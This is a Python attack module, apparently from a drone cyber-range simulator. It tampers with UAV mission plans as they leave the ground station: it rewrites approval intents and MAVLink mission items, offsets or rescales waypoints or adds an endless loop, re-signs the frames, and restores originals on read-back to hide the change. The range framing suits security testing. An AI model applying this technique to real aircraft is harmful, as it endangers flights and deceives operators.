"""Malicious plan file: a plan that was altered in the ground station before it is submitted and uploaded.

Approval, upload and read-back agree on the altered plan, and the station signs it. The alteration is made where plans
leave the station: in operational intents and mission items, and back in items that are read. So the station's program
itself keeps the plan of the operator, with the same number of items. No waypoint is altered to one below the ground,
because a station refuses such a plan.
"""

from __future__ import annotations

from typing import Annotated, Any, Final

from pydantic import Field

import skyrange.plugin as sky
from skyrange.attack.bases.approval import approval_taps, replace_json
from skyrange.attack.bases.mavlink.compromised_sender import SenderStream, without_signature
from skyrange.attack.bases.mavlink.message_fields import read_fields, write_alteration
from skyrange.attack.bases.on_path import CopyForLink
from skyrange.attack.ground.plan_alteration import ALTERED_FIELDS, Form, PlanAlteration
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.signing import range_passphrase, secret_from_passphrase
from skyrange.core.ids import APPROVAL

_COUNT: Final = int(mav.MAVLINK_MSG_ID_MISSION_COUNT)
_ITEM: Final = int(mav.MAVLINK_MSG_ID_MISSION_ITEM_INT)
_FARTHEST_M: Final = 50_000.0
"""Largest offset: a ground station refuses waypoints farther than 100 km from home."""


@sky.attack(
    "ground.plan_file",
    technique="T0873",
    from_start=True,
    places=(),
    surface=("gcs", "approval"),
    persists="flight",
    effect="approver, ground station and autopilot agree on a plan that is not the operator's, and signatures fit it",
    knowledge="the form of plans, and where the operator keeps them",
    position="where the plan is made or stored, before the flight: a shared folder, a mail, a planning tool",
    equipment="write access to the file; no link and no key",
    budget="no frames of its own",
    load="the sham: the same frames are replaced by copies of themselves",
    content="an offset below the accuracy of positioning, such as 0.1 m",
    placement="the same alteration of another aircraft's plan",
)
class PlanFile(sky.LinkTap):
    """Alters a plan before the ground station submits and uploads it, so that all agree on the wrong plan.

    The attack has to begin at 0 s, because plans are loaded then.
    """

    vehicles: sky.Victims = sky.param("Aircraft whose plans are altered, such as ['blue/b1'].")
    form: Form = sky.param(
        "offset: waypoints are moved; scale: their heights above home are multiplied; sea_level: their heights above "
        "home are declared as heights above mean sea level; endless: the last item is a DO_JUMP back to the first "
        "waypoint, without end.",
        default="offset",
    )
    offset_m: sky.Enu = sky.param(
        "Offset of waypoints, [east_m, north_m, up_m] in metres, for 'offset'.", default=(0.0, 0.0, 0.0)
    )
    factor: Annotated[sky.Number, Field(gt=0, le=20)] = sky.param(
        "Factor of heights, for 'scale'; 3.2808 is a height in feet that is read as metres.", default=3.2808
    )
    alteration: PlanAlteration
    epoch: sky.Epoch
    uploads: bool
    """Of a tap: whether its link carries uploads, or else intents."""
    up: SenderStream
    down: SenderStream
    count: int = 0
    originals: dict[int, Any] = sky.state(dict)
    """The operator's altered items by number."""

    def find_problems(self) -> sky.Problems:
        if max(map(abs, self.offset_m)) > _FARTHEST_M:
            yield sky.Problem("offset_m", repr(list(self.offset_m)), f"at most {_FARTHEST_M:.0f} m each")
        elif self.form == "offset" and not any(self.offset_m):
            yield sky.Problem("offset_m", repr(list(self.offset_m)), "an offset that is not zero, for 'offset'")
        elif self.form == "scale" and self.factor == 1:
            yield sky.Problem("factor", "1", "another factor than 1, for 'scale'")

    def prepare(self, context: sky.AttackContext) -> None:
        self.alteration = PlanAlteration(self.form, self.offset_m, self.factor, context.origin)
        self.epoch = context.epoch

    def build(self, context: sky.AttackContext) -> sky.Attack:
        """Taps where plans leave the station. Raises `InputError` for aircraft that are not in the scenario."""
        make = CopyForLink(self)
        taps = approval_taps(self.vehicles, context, make)
        taps += [sky.TapPlacement(sky.link_name("gcs", vehicle), "gcs", make) for vehicle in self.vehicles]
        return sky.Attack(taps=taps, exclusive=[sky.Exclusive(f"plan of {vehicle}") for vehicle in self.vehicles])

    def begin(self) -> None:
        role, _, owner = self.link.partition(":")
        self.uploads = role != APPROVAL
        secret = secret_from_passphrase(range_passphrase(self.chance.seed, sky.operator_of(owner)))
        self.up, self.down = SenderStream(secret), SenderStream(secret)

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Alter an intent or an item; a sham sends it on as it is, with as many bytes."""
        schedule = self.schedule
        if not schedule.start_ns <= now < schedule.stop_ns:
            return ()
        if not self.uploads:
            return self._alter_intent(frame)
        number = sky.message_id(frame.payload)
        if number is None or number not in (_COUNT, _ITEM):
            return ()
        return self._alter_item(frame, number)

    def _alter_intent(self, frame: sky.Frame) -> sky.Verdicts:
        """Alter an intent as the plan is altered."""
        if frame.direction != "fwd":
            return ()
        try:
            intent = sky.decode_approval_request(frame.payload).intent(self.epoch)
        except sky.DecodeError:
            return ()
        if intent.vehicle not in self.vehicles:
            return ()
        volumes = tuple(self.alteration.alter_volume(volume) for volume in intent.volumes)
        altered = sky.OperationalIntent(intent.id, intent.operator, intent.vehicle, volumes, intent.priority)
        payload = sky.encode_approval(sky.ApprovalRequest.of(altered, self.epoch))
        return (replace_json(frame.payload, payload, self.sham),)

    def _alter_item(self, frame: sky.Frame, number: int) -> sky.Verdicts:
        """Alter an item of an upload, and alter it back when it is read."""
        plain = without_signature(frame.payload)
        fields = None if plain is None else read_fields(plain, number)
        if plain is None or fields is None:
            return ()
        if fields["mission_type"] != mav.MAV_MISSION_TYPE_MISSION:
            return ()
        upwards = frame.direction == "fwd"
        if number == _COUNT:
            if upwards:
                self.count, self.originals = int(fields["count"]), {}
            return ()
        true = fields.copy()
        if upwards:
            if not self.alteration.alter_item(fields, self.count):
                return ()
            self.originals[int(fields["seq"])] = true
        else:
            original = self.originals.get(int(fields["seq"]))
            if original is None:
                return ()
            for name in ALTERED_FIELDS:
                fields[name] = original[name]
        content = write_alteration(plain, number, true, fields, self.sham)
        return (sky.Replace((self.up if upwards else self.down).forward(frame.payload, content)),)
